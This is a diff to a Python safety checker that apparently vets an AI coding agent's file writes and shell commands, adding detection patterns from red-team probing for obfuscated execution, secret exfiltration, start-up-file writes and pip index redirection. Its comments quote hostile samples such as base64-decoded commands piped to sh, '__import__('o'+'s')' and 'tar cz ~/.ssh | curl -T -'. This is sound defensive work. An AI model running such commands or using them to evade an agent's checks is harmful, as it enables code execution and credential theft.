@@ -238,7 +238,8 @@ def _remember(memo: dict, key: Any, value: Any, limit: int = MEMO_LIMIT) -> None
 
 
 _RUNS_TEXT = frozenset({"eval", "source", "."})
-_CONTENT_PLAIN_ASKS = frozenset({"pipe_to_shell", "chmod_777", "sends_secret", "writes_later"})   # asked as any risky edit is
+_CONTENT_PLAIN_ASKS = frozenset({"pipe_to_shell", "chmod_777", "sends_secret", "writes_later", "hidden_code",
+                                 "remote_code_execution"})   # asked as any risky edit is
 # (probe round 28, chains) written text that may hold a command run later (a Makefile
 # recipe, a package.json script, a hook, os.system(...) in conftest.py, an echo or a
 # here-document into one): a network shell's device or program, a socket, a user's
@@ -247,11 +248,85 @@ _CONTENT_PLAIN_ASKS = frozenset({"pipe_to_shell", "chmod_777", "sends_secret", "
 _LATER_TRIGGER = re.compile(
     r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat|socat|telnetd?|mkfifo|xterm|crontab|rcat|pwncat)\b|[sS]ocket|SOCKET"
     r"|INET|fsockopen|\bpty\b|authorized_keys|\.(?:bash|zsh|mk|tcsh|c)rc\b|\.(?:bash_|z)?profile\b|\.bash_login"
-    r"|\.zshenv|\.ssh/|\.gnupg/|(?i:hookspath|fsmonitor|sshcommand)|\.git/(?:hooks|config)|\.claude|\.mcp\.json"
+    r"|\.zshenv|\.ssh\b|\.gnupg/|(?i:hookspath|fsmonitor|sshcommand)|\.git/(?:hooks|config)|\.claude|\.mcp\.json"
     r"|\.gitconfig|\.npmrc|\.pypirc|\.netrc|systemd/user|autostart/|LaunchAgents|\bgit\b[^\n]*\bconfig\b")
+# (probe round 28, redteam28b) a shell line that decodes, runs a download or spells its
+# command in pieces (base64 -d | sh, curl -o x && sh x, $(printf '\x63...') URL | sh, $a$b |
+# sh, make's $(SHELL)) or deletes with find: read as Bash too, for a catastrophe, a download
+# run or a program named only when it runs (a curl that only fetches is not read: ~100 µs a line)
+_LATER_SHELL_TRIGGER = re.compile(
+    r"\b(?:base64|xxd)\b|(?:\bprintf\s|\$')[^\n]*\\x[0-9a-fA-F]{2}|\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b"
+    r"|\$[({](?:SHELL|BASH)[)}]|\b(?:curl|wget)\b[^\n]*(?:\b(?:ba|z|da|k)?sh\b|\beval\b|\bsource\b|\bchmod\b|\s\.\s)"
+    r"|(?:\beval\b|\bsource\b|\$\(|`)[^\n]*\b(?:curl|wget)\b"
+    r"|\s-delete\b")
+_LATER_EITHER = re.compile(_LATER_TRIGGER.pattern + "|" + _LATER_SHELL_TRIGGER.pattern)
 # (the same, in one RE2 pass over every text of a call: Python's re tries each of its
 # alternatives at every position, about 30 µs per kilobyte)
-_LATER_TRIGGER_ANY = re2.compile(_LATER_TRIGGER.pattern)
+_LATER_TRIGGER_ANY = re2.compile(_LATER_EITHER.pattern)
+# (probe round 28, redteam28b) interpreter code in written text that runs what it decodes,
+# downloads or assembles from pieces (exec(bytes.fromhex(...)), eval(Buffer.from(..,
+# 'base64')), exec(urlopen(...).read()), __import__('o'+'s'), require('child_'+'process'),
+# system(pack("H*", ...))): what it runs is hidden from every reading, asked as obfuscated
+# commands are; exec(open('version.py').read()), setup.py's idiom, reads a project file
+_Q = r"\\?['\"]"   # (a quote, JSON-escaped or not)
+_HIDDEN_RUN = re2.compile(
+    # a runner given what a decoder, a download or a list of codes makes
+    r"(?:\b(?:exec|eval|compile|system|execSync|spawnSync|popen|Popen|setTimeout|setInterval|runIn\w*Context)"
+    r"|subprocess\.\w+|pickle\.loads?|dill\.loads?|\bnew\s+Function|\bFunction|\bnew\s+vm\.Script)\s*\("
+    r"[^\n]*?(?:\bb(?:64|32|16|85)decode|\ba85decode|\bfromhex|\bunhexlify|\bdecompress|marshal\.loads"
+    r"|codecs\.decode|Buffer\.from|\batob\s*\(|decode64|decode_base64|base64_decode|gzinflate|str_rot13"
+    r"|\bunpack1?\s*\(\s*" + _Q + r"[mu]|\bpack\s*\(\s*" + _Q + r"[Hh]|\burlopen|\brequests\.\w+\s*\(|\bhttpx\.\w+\s*\("
+    r"|\bfetch\s*\(|\.decode\(\s*" + _Q + r"(?:hex|base64|rot)|String\.fromCharCode|\bchr\s*\(|\bbytes\s*\(\s*\["
+    r"|" + _Q + r"\s*\.join\s*\(|\bopen\s*\(\s*" + _Q + r"(?:/|~))"
+    # a download handed to a runner on the same line (fetch(u).then(r => r.text()).then(eval))
+    r"|(?:\bfetch|\burlopen|\brequests\.\w+|\.(?:get|request)|\baxios(?:\.\w+)?)\s*\([^\n]*?"
+    r"\b(?:eval|exec|Function|runIn\w*Context)\b"
+    # a module or a builtin named in pieces, escapes or codes (__import__('o'+'s'),
+    # require('\x63hild_process'), global['req'+'uire'], import(`child_${'process'}`))
+    r"|(?:__import__|\brequire|import_module|getattr)\s*\((?:[^()\n]|\([^()\n]*\)){0,40}?['\"]\s*\+\s*" + _Q
+    + r"|\[\s*" + _Q + r"[^'\"\n]{0,40}" + _Q + r"\s*\+\s*" + _Q
+    + r"|(?:__import__|\brequire|import_module|\bexec|\beval|\bsystem|\bpopen)\s*\(\s*" + _Q
+    + r"[^'\"\n]*?\\{1,2}(?:x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|[0-7]{3})"
+    r"|(?:\brequire|__import__|import_module|\bimport)\s*\(\s*(?:\[|String\.fromCharCode|`[^`\n]*\$\{\s*" + _Q + r")"
+    r"|\b__builtins__\b|\bmainModule\s*\.\s*require|process\.binding\s*\(|\bFunction\s*\(\s*" + _Q
+    + r"return\s+process|\bchr\s*\(\s*\d+\s*\)\s*\+\s*chr\s*\("
+    # a command named by an environment variable (exec(process.env.CMD)); a library from /tmp
+    r"|(?:\bexec\w*|\bspawn\w*|\bsystem|\bpopen)\s*\(\s*(?:process\.env|os\.environ|os\.getenv)"
+    r"|(?:CDLL|LoadLibrary|dlopen)\s*\(\s*" + _Q + r"(?:/tmp/|/var/tmp/|/dev/shm/|~|\.\./)"
+    r"|sys\.path\.(?:insert|append)\s*\([^\n]*?" + _Q + r"(?:/tmp|/var/tmp|/dev/shm)"
+    # (the shell's: base64 -d | sh, eval "$(echo … | base64 -d)", xxd -r … | bash)
+    r"|(?:\bbase64\s+(?:-\w*[dD]\w*|--decode)|\bxxd\s+-r|\bopenssl\s+(?:enc\s+|base64\s+)?-d\b)[^\n]*?"
+    r"(?:[|;&]\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\beval\b|\bsource\b)"
+    r"|(?:\beval|\b(?:ba|z|da|k)?sh\s+-c)\s+\\?['\"]?\$\([^\n]*?\b(?:base64|xxd|openssl)\b")
+# interpreter code that hands a secret file or the whole environment to the network
+# (fetch('https://x/?k=' + readFileSync(homedir() + '/.ssh/id_rsa')), urlopen(url,
+# data=json.dumps(dict(os.environ)))); one variable (process.env.API_URL) is no secret
+_CODE_SENDS_SECRET = re2.compile(
+    r"(?:\bfetch|\burlopen|\brequests\.(?:get|post|put|patch)|\bhttpx\.(?:get|post|put)|\bhttps?\.(?:get|request)"
+    r"|\baxios(?:\.\w+)?|\bsendBeacon|\bRequest|\.(?:request|post|put|send|end))\s*\([^\n]*?(?:process\.env(?:$|[^\w.\[])|os\.environ(?:$|[^\w.\[])"
+    r"|\.ssh\b|id_rsa|id_ed25519|\.aws/|\.netrc|\.npmrc|\.pypirc|['\"/]\.env['\"])")
+# interpreter code that opens a start-up or SSH file for writing (open(os.path.expanduser(
+# '~/.ssh/authorized_keys'), 'a'), fs.appendFileSync(homedir() + '/.bashrc', ...)): the
+# write the shell's reading of the code does not see
+_STARTUP_NAME = (r"(?:authorized_keys|\.(?:bash|zsh|mk|tcsh|c)rc\b|\.(?:bash_|z)?profile\b|\.bash_login|\.zshenv"
+                 r"|\.ssh/config|\.gitconfig|\.git/hooks|\.git/config|systemd/user|autostart/|LaunchAgents|\.npmrc"
+                 r"|\.pypirc|\.yarnrc|pip\.conf|\.netrc|\.docker/config)")
+_CODE_WRITES_STARTUP = re2.compile(
+    r"\bopen\s*\([^\n]*?" + _STARTUP_NAME + r"[^\n]*?,\s*(?:mode\s*=\s*)?\\?['\"]\w*[awx+]\w*\\?['\"]|\b(?:append|write)File(?:Sync)?\s*\([^\n]*?" + _STARTUP_NAME
+    + r"|" + _STARTUP_NAME + r"[^\n]*?\)\s*\.\s*(?:write_text|write_bytes)\s*\(")
+# a requirements or constraints file (pip install -r reads it: round 28's safe build)
+_REQUIREMENTS_FILE = re.compile(r"(?i)(?:^|/)(?:[\w.-]*(?:requirements|constraints)[\w.-]*|requirements/[\w.-]+)\.(?:txt|in)$")
+# its lines that send pip to another index, to links or to a file outside the project: every
+# package it then installs may come from there (the project's own file names the
+# packages; the agent changing where they come from is asked, as ~/.npmrc or pip.conf is)
+_PIP_SOURCE_LINE = re2.compile(
+    r"(?m)(?:^|['\"])\s*(?:(?:-i|--index-url|--extra-index-url|-f|--find-links)[\s=]+\S|--trusted-host\b"
+    r"|(?:-r|-c|-e|--requirement|--constraint|--editable)[\s=]+['\"]?(?:/|~|\.\./|[\w+]+://)|[^\n#]*@\s*file:)")
+# (the three above in one RE2 pass: most written text holds none)
+_CODE_LATER_OPTIONS = re2.Options()
+_CODE_LATER_OPTIONS.max_mem = 32 << 20
+_CODE_LATER_ANY = re2.compile("|".join(f"(?:{rx.pattern})" for rx in (_HIDDEN_RUN, _CODE_SENDS_SECRET, _CODE_WRITES_STARTUP)),
+                              options=_CODE_LATER_OPTIONS)
 # what leads a command on a line of a recipe, a Dockerfile or a YAML step
 _LINE_LEAD = re.compile(r"^[\s@+!-]*(?:(?:RUN|CMD|ENTRYPOINT)\s+|-?\s*(?:run|script|command|entry)\s*:\s*[|>]?\s*)?")
 # source files whose text is a program's, read as that interpreter's code when it names
@@ -864,7 +939,9 @@ _DOCUMENT = re.compile(r"(?i)(?:\.(?:md|markdown|mdx|rst|adoc|asciidoc|org|txt|t
                        r"|notice|todo)(?:\.(?:md|txt|rst))?)$")
 # ... but not what a tool runs: CMake's lists, pytest's doctest files (test*.txt), or a
 # file in a directory of scripts or hooks
-_NOT_DOCUMENT = re.compile(r"(?i)(?:^|/)(?:cmakelists\.txt|test[^/]*\.txt)$|(?:^|/)(?:bin|scripts?|hooks|\.githooks"
+# (pip's requirements and constraints files: pip install -r reads their options, probe round 28)
+_NOT_DOCUMENT = re.compile(r"(?i)(?:^|/)(?:cmakelists\.txt|test[^/]*\.txt|[^/]*(?:requirements|constraints)[^/]*\.txt"
+                           r"|requirements/[^/]+\.txt)$|(?:^|/)(?:bin|scripts?|hooks|\.githooks"
                            r"|\.husky|libexec|sbin)/")
 
 # a doctest's source line in a document (>>> code, ... its continuation)
@@ -1942,18 +2019,39 @@ class _Evaluation:
         catastrophe) or a write to a sensitive or runs-later path is the finding."""
         # (printf's and echo -e's \\n and \\t, a JSON string's: the lines they make too;
         # make's $$ is the shell's $)
+        # (a JSON string's \\ and \" are one character: "$(printf '\\x63...')" in package.json)
         texts = texts + [u for u in (t.replace("\\n", "\n").replace("\\t", "\t").replace("$$", "$")
+                                     .replace("\\\\", "\\").replace('\\"', '"')
                                      for t in texts if "\\" in t or "$$" in t) if u not in texts]
-        if _LATER_TRIGGER_ANY.search("\n".join(texts)) is None:
+        joined = "\n".join(texts)
+        if _CODE_LATER_ANY.search(joined) is not None:
+            hidden = _HIDDEN_RUN.search(joined)
+            if hidden is not None:
+                return "hidden_code", f"runs code it decodes, downloads or builds from pieces when it runs: {hidden.group(0)[:200]}"
+            sent = _CODE_SENDS_SECRET.search(joined)
+            if sent is not None:
+                return "sends_secret", f"sends a secret or the environment out when it runs: {sent.group(0)[:200]}"
+            wrote = _CODE_WRITES_STARTUP.search(joined)
+            if wrote is not None:
+                return "writes_later", f"writes a start-up or SSH file when it runs: {wrote.group(0)[:200]}"
+        if any(_REQUIREMENTS_FILE.search(p) for p in paths):
+            source = _PIP_SOURCE_LINE.search(joined)
+            if source is not None:
+                return "writes_later", f"points pip at another source for every package: {source.group(0).strip()[:200]}"
+        if _LATER_TRIGGER_ANY.search(joined) is None:
             return None
         cwd, s = self.cwd or "/", self.s
         # (a Dockerfile's RUN writes the image's files, its ~ is the container's home)
         container = bool(paths) and all(_CONTAINER_FILE.search(p) for p in paths)
-        codes: list[str] = []
+        # (code, whether a start-up trigger named it: every check; whether it is a line's)
+        codes: list[tuple[str, bool, bool]] = []
         for t in texts:
-            if not _LATER_TRIGGER.search(t):
+            if not _LATER_EITHER.search(t):
                 continue
-            lead = next((w for rx, w in _INTERPRETER_FILES for p in paths if rx.search(p)), None)
+            # (a source file is read as its interpreter's code for the start-up triggers only;
+            # the shell's markers are read on their lines)
+            lead = next((w for rx, w in _INTERPRETER_FILES for p in paths if rx.search(p)), None) \
+                if _LATER_TRIGGER.search(t) else None
             if lead is not None:
                 # (a long file: the lines around each that names one, a socket's connect
                 # and dup2 are near its import; the interpreter's analysis costs by length)
@@ -1964,32 +2062,44 @@ class _Evaluation:
                     code = "\n".join(lines[j].strip() for j in near[:_LATER_LINES * 4])
                 else:
                     code = t
-                codes.append(lead + shlex.quote(code))
+                codes.append((lead + shlex.quote(code), True, False))
             n = 0
             for line in t.splitlines():
-                if not _LATER_TRIGGER.search(line):
+                if not _LATER_EITHER.search(line):
                     continue
                 n += 1
                 if n > _LATER_LINES:
                     break
+                full = bool(_LATER_TRIGGER.search(line))
                 code = _LINE_LEAD.sub("", line, count=1)
-                codes.append(code.replace("$(shell ", "$(") if "$(shell " in code else code)   # (make's)
+                if "SHELL" in code or "BASH" in code:
+                    code = re.sub(r"\$[({](?:SHELL|BASH)[)}]", "sh", code)   # (make's $(SHELL) is the shell)
+                codes.append((code.replace("$(shell ", "$(") if "$(shell " in code else code, full, True))   # (make's)
                 for m in _QUOTED.finditer(line):   # (a JSON value, an os.system argument, echo's text)
                     q = m.group(2)
-                    if q and _LATER_TRIGGER.search(q):
+                    if q and _LATER_EITHER.search(q):
                         if m.group(1) == '"':
                             q = q.replace('\\"', '"')
-                        codes.append(q.replace("\\n", "\n").replace("\\t", "\t"))
-        for code in dict.fromkeys(codes):
+                        codes.append((q.replace("\\n", "\n").replace("\\t", "\t"), full, True))
+        for code, full, line in dict.fromkeys(codes):
             b = s.analyze(code, cwd)
             if not b.parsed:
                 continue
             hit = destructive.bash_findings(b, home=self.home)
             if hit is not None:
                 return hit[0], f"{hit[1]} (written for a later run: {hit[2][:200]})"
+            if line and not container and (b.dynamic or any(f.code == "shell_reads_stdin" for f in b.risky)):
+                # ($(echo … | base64 -d), tr … <<< '…' | sh, c=cu_rl; $c …: a command line
+                # whose program is only known when it runs)
+                return "hidden_code", f"runs a command it names only when it runs: {code[:200]}"
+            if not full:
+                continue
             risky = next((f for f in b.risky if f.code in _LATER_RISKY), None)
             if risky is not None:
                 return "writes_later", f"{risky.reason} when it runs: {code[:200]}"
+            if any(f.code == "network_upload" for f in b.risky) and any(
+                    s.sensitive.match(normalize_path(r, cwd=cwd, home=self.home)) for r in b.read_paths + b.tree_reads):
+                return "sends_secret", f"sends a secret out when it runs: {code[:200]}"   # (tar cz ~/.ssh | curl -T -)
             if container:
                 continue
             for w in b.write_paths:
@@ -2416,6 +2526,10 @@ class _Evaluation:
                     break
             if later is None:
                 later = self.later_finding([self.command], [])
+            if later is None and any(_REQUIREMENTS_FILE.search(p) for p in a.write_paths):
+                source = _PIP_SOURCE_LINE.search(self.command)   # (echo '--extra-index-url …' >> requirements.txt)
+                later = ("writes_later", f"points pip at another source for every package: {source.group(0).strip()[:200]}") \
+                    if source is not None else None
             # (asked; BYPASS, which asks no one, lets a Bash write through as before: a
             # mode may only narrow what a wider one allows, and Bash's text is no Write)
             self.content_risk = later
